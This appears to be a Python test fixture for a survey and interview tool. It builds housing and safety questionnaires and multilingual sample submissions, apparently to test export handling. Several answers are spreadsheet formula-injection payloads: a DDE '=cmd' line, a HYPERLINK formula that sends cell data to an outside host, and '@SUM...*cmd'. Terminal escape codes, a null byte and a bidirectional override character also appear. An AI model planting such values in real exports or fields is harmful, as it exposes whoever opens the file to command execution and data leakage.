"""Two organisations' questionnaires and their interviews, built by hand, with hostile words in."""

from collections.abc import Mapping

from peerkit.interview.submission import (
    ConsentRecord,
    Outcome,
    Paradata,
    StatementRecord,
    Submission,
)
from peerkit.questionnaire.model import (
    Choice,
    ChoiceList,
    ConsentStatement,
    Group,
    Item,
    Purpose,
    Question,
    Questionnaire,
    QuestionType,
    Repeat,
    Sensitivity,
    Text,
)
from peerkit.report import Entry
from peerkit.values import Address, Answer, AnswerValue, Audience, ConsentState, MissingReason, Mode


def text(en: str, **others: str) -> Text:
    return Text({"en": en, **others})


def choice_list(name: str, **labels: Text) -> ChoiceList:
    return ChoiceList(
        name, tuple(Choice(choice.lstrip("_"), label) for choice, label in labels.items())
    )


TAKE_PART = ConsentStatement(
    "take_part",
    Purpose.TAKE_PART,
    Audience.ORGANISATION,
    True,
    text("I agree to take part.", ro="Sunt de acord să particip.", so="Waan oggolahay."),
)
QUOTE = ConsentStatement(
    "quote", Purpose.QUOTE, Audience.PUBLIC, False, text("My words can be quoted, without my name.")
)

TENURE = choice_list(
    "tenure",
    council=text("Council or housing association", ro="Locuință socială"),
    private=text("Private landlord", ro="Proprietar privat"),
)
PROBLEMS = choice_list(
    "problems",
    damp=text("Damp or mould", ro="Umezeală sau mucegai"),
    repairs=text("Repairs not done", ro="Reparații nefăcute"),
    none=text("None of these", ro="Niciuna dintre acestea"),
)


def questionnaire(
    form_id: str,
    version: str,
    survey: tuple[Item, ...],
    choices: tuple[ChoiceList, ...] = (),
    consent: tuple[ConsentStatement, ...] = (TAKE_PART,),
) -> Questionnaire:
    """Return a questionnaire whose digest is its form_id and version."""
    return Questionnaire(
        form_id,
        version,
        text(form_id),
        "en",
        {"en": "English"},
        text("We ask."),
        text("In confidence."),
        consent,
        {each.name: each for each in choices},
        survey,
        digest=f"{form_id}/{version}",
    )


HOUSING = questionnaire(
    "housing",
    "1",
    (
        Question(QuestionType.NOTE, "welcome", text("Welcome.")),
        Group(
            "home",
            None,
            (
                Question(
                    QuestionType.SELECT_ONE,
                    "tenure",
                    text("Who do you rent from?", ro="De la cine închiriați?"),
                    choice_list="tenure",
                ),
                Question(
                    QuestionType.SELECT_MULTIPLE,
                    "problems",
                    text("Which have you had?", ro="Pe care le-ați avut?"),
                    choice_list="problems",
                ),
            ),
        ),
        Question(QuestionType.TEXT, "story", text("Tell me.", ro="Povestiți-mi.", so="Ii sheeg.")),
        Question(QuestionType.TEXT, "health", text("Your health?"), sensitive=Sensitivity.HEALTH),
        Question(QuestionType.DECIMAL, "degrees", text("How warm is it at home?")),
        Repeat(
            "member",
            None,
            (
                Question(QuestionType.INTEGER, "age", text("How old?", so="Immisa jir?")),
                Repeat("job", None, (Question(QuestionType.TEXT, "work", text("What work?")),)),
            ),
        ),
    ),
    (TENURE, PROBLEMS),
    (TAKE_PART, QUOTE),
)
SAFETY = questionnaire(
    "safety",
    "2",
    (
        Question(QuestionType.TEXT, "story", text("What happened?")),
        Question(QuestionType.TEXT, "degrees", text("What have you studied?")),
        Question(QuestionType.DATE, "language", text("When did you begin to learn English?")),
        Question(QuestionType.TEXT, "called", text("What are you called?"), pii=True),
    ),
)
CODEBOOKS = {each.digest: each for each in (SAFETY, HOUSING)}


def answers(**values: AnswerValue | MissingReason) -> dict[Address, Answer]:
    """Return answers of the first level: a value, or a missing reason."""
    return {Address(name): answer(value) for name, value in values.items()}


def answer(value: AnswerValue | MissingReason) -> Answer:
    if isinstance(value, MissingReason):
        return Answer(missing=value)
    return Answer(value)


def submission(
    form: Questionnaire,
    given: Mapping[Address, Answer],
    *,
    language: str = "en",
    repeats: Mapping[Address, int] | None = None,
    notes: Mapping[Address, str] | None = None,
    outcome: Outcome = Outcome.FINISHED,
    states: Mapping[str, ConsentState] | None = None,
) -> Submission:
    """Return a submission of `form`; statements are yes unless `states` says otherwise."""
    said = states or {}
    return Submission(
        form_id=form.form_id,
        version=form.version,
        questionnaire=form.digest,
        language=language,
        started="2026-11-21T10:00:00Z",
        ended="2026-11-21T10:30:00Z",
        outcome=outcome,
        consent=ConsentRecord(
            at="2026-11-21T10:00:00Z",
            language=language,
            mode=Mode.SPOKEN,
            words="0" * 64,
            filling={},
            statements=tuple(
                StatementRecord(
                    each.name,
                    each.purpose,
                    each.audience,
                    each.essential,
                    said.get(each.name, ConsentState.YES),
                )
                for each in form.consent
            ),
        ),
        answers=given,
        repeats=repeats or {},
        parents={"age": "member", "job": "member", "work": "job"} if repeats else {},
        notes=notes or {},
        sensitive={},
        pii=frozenset(),
        paradata=Paradata(1800, 0, 0),
    )


def entry(
    interview: str,
    result: Submission,
    *,
    organisation: str = "Harbour Voices",
    participant: str = "",
    withheld: frozenset[str] = frozenset(),
) -> Entry:
    return Entry(interview, organisation, participant, "Romanian", result, withheld)


ROMANIAN = entry(
    "a1",
    submission(
        HOUSING,
        {
            **answers(
                tenure="private",
                problems=("damp", "repairs"),
                story="Șobolanii au venit în „casă”; proprietarul: „nu-i treaba mea”.\nȘi atât.",
                health=MissingReason.PREFER_NOT_TO_SAY,
                degrees="-7",
            ),
            Address("age", (1,)): Answer(34),
            Address("age", (2,)): Answer(missing=MissingReason.DONT_KNOW),
            Address("work", (1, 1)): Answer("bucătar"),
            Address("work", (1, 2)): Answer("=cmd|' /C calc'!A0"),
        },
        language="ro",
        repeats={Address("member"): 2, Address("job", (1,)): 2, Address("job", (2,)): 0},
        notes={Address("story"): "A plâns, apoi a râs.", Address("age", (2,)): "+1, nu știe"},
    ),
    participant="R07-012",
)
SOMALI = entry(
    "a2",
    submission(
        HOUSING,
        answers(
            tenure=MissingReason.STOPPED,
            problems=MissingReason.STOPPED,
            story='Guriga waa qoyan yahay, "aad iyo aad",\tmana jiro cid na dhegaysata.',
            degrees="18.50",
        ),
        language="so",
        outcome=Outcome.STOPPED,
        repeats={Address("member"): 0},
        states={"quote": ConsentState.NO},
    ),
    withheld=frozenset({"health"}),
)
HOSTILE = entry(
    "b1",
    submission(
        SAFETY,
        answers(
            story='=HYPERLINK("http://a.org/?q="&A1,"tap")\r\n\x1b[31mred\x1b[0m\x00 \u202egnp',
            degrees="-7",
            language="2020-05-01",
            called="@SUM(1+1)*cmd",
        ),
    ),
    organisation='+44 "Night, Shelter"',
)
ENTRIES = (ROMANIAN, SOMALI, HOSTILE)
